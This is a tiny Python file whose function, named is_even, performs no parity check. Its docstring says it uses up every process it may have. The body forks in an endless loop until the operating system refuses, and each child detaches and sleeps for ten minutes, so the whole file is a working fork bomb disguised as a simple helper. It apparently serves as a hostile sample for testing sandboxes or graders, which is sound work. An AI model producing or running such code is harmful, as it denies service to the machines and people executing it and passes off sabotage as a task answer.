"""Uses up all the processes it may have and leaves them asleep while it answers."""

import posix
import time


def is_even(n):
    try:
        while True:
            if posix.fork() == 0:
                posix.setsid()
                time.sleep(600)
    except OSError:
        return None
